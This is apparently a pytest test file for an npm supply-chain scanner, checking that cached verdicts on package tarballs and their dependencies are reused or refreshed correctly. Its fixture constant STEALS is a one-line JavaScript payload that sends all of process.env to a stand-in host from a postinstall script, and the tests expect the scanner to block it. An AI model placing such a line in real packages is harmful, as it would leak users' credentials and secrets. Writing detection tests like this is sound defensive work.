"""A package that stands alone is known again by its bytes, and by those of what it would bring along."""

from __future__ import annotations

import sqlite3
from contextlib import closing
from pathlib import Path

import pytest

from tests.builders import a_manifest, a_tarball
from tests.faults import Status
from tests.world import Said, World

pytestmark = [pytest.mark.npm, pytest.mark.semgrep]

STEALS = "const all = JSON.stringify(process.env); require('https').request('https://a.example.test').end(all)\n"
QUIET = "console.log(1)\n"


def an_archive(world: World, code: str, command: str = "node index.js") -> None:
    """Write an archive of a package that needs another one."""
    manifest = a_manifest("lone", scripts={"postinstall": command}, dependencies={"outer": "^2.0.0"})
    (world.folder / "lone.tgz").write_bytes(a_tarball({"package.json": manifest, "index.js": code}))


def scan(world: World) -> Said:
    return world.run("scan", "--json", "lone.tgz")


@pytest.fixture
def learned(world: World, looked_at: list[str]) -> Said:
    """Look once at an archive that requires another package."""
    world.registry.publish("outer", "2.0.0", {"index.js": QUIET})
    an_archive(world, "require('outer')\n")
    said = scan(world)
    assert set(looked_at) == {"traced", "matched", "unpacked"}
    looked_at.clear()
    return said


def test_a_second_look_at_an_archive_says_the_same_and_does_nothing_again(
    world: World, learned: Said, looked_at: list[str]
) -> None:
    asked = len(world.registry.seen())
    assert scan(world).out == learned.out
    assert looked_at == []
    assert len(world.registry.seen()) == asked


def test_an_archive_that_needs_nothing_else_is_traced_once(world: World, looked_at: list[str]) -> None:
    an_archive(world, STEALS)
    first = scan(world)
    assert first.verdicts == {"lone postinstall": "block"}
    assert looked_at.count("traced") == 1
    looked_at.clear()
    assert scan(world).out == first.out
    assert looked_at == []


@pytest.mark.usefixtures("learned")
def test_another_archive_of_the_same_name_is_looked_at(world: World, looked_at: list[str]) -> None:
    an_archive(world, f"require('outer'); {STEALS}")
    assert scan(world).verdicts == {"lone postinstall": "block"}
    assert {"traced", "matched"} <= set(looked_at)


@pytest.mark.usefixtures("learned")
def test_another_version_that_it_would_bring_along_is_looked_at(
    world: World, looked_at: list[str], tmp_path: Path
) -> None:
    world.registry.publish("outer", "2.0.1", {"index.js": STEALS})
    for answer in (tmp_path / "cache" / "beside").iterdir():
        answer.unlink()  # as a day later
    assert "a.example.test" in scan(world).out
    assert {"traced", "matched"} <= set(looked_at)


def test_what_could_not_be_resolved_is_not_remembered(world: World, looked_at: list[str]) -> None:
    world.registry.publish("outer", "2.0.0", {"index.js": STEALS})
    world.registry.fault("outer", Status(403))
    an_archive(world, "require('outer')\n")
    assert "a.example.test" not in scan(world).out
    world.registry.mend()
    looked_at.clear()
    assert "a.example.test" in scan(world).out
    assert {"traced", "matched"} <= set(looked_at)


def test_that_nothing_could_be_resolved_is_forgotten_once_the_registry_has_no_such_thing(world: World) -> None:
    world.registry.fault("outer", Status(403))
    an_archive(world, "require('outer')\n")
    assert "could not be resolved" in scan(world).out
    world.registry.mend()
    assert "could not be resolved" not in scan(world).out


def test_what_was_seen_before_anything_came_along_is_never_the_last_word(
    world: World, looked_at: list[str], tmp_path: Path
) -> None:
    an_archive(world, STEALS)
    scan(world)
    with closing(sqlite3.connect(tmp_path / "cache" / "remembered.sqlite")) as store:
        kept = "SELECT count(*) FROM remembered WHERE about = 'script'"
        assert store.execute(kept).fetchone() == (2,)  # at first, which nobody matched, and at last
        store.execute(
            "DELETE FROM remembered WHERE about = 'script' AND rowid = (SELECT max(rowid) FROM remembered WHERE about = 'script')"
        )
        store.commit()
    looked_at.clear()
    assert scan(world).verdicts == {"lone postinstall": "block"}
    assert looked_at == ["traced"]


def test_a_folder_is_read_each_time(world: World) -> None:
    world.write("lone/package.json", a_manifest("lone", scripts={"postinstall": "node index.js"}))
    world.write("lone/index.js", QUIET)
    assert world.run("scan", "--json", "lone").verdicts == {"lone postinstall": "skip"}
    world.write("lone/index.js", STEALS)
    assert world.run("scan", "--json", "lone").verdicts == {"lone postinstall": "block"}
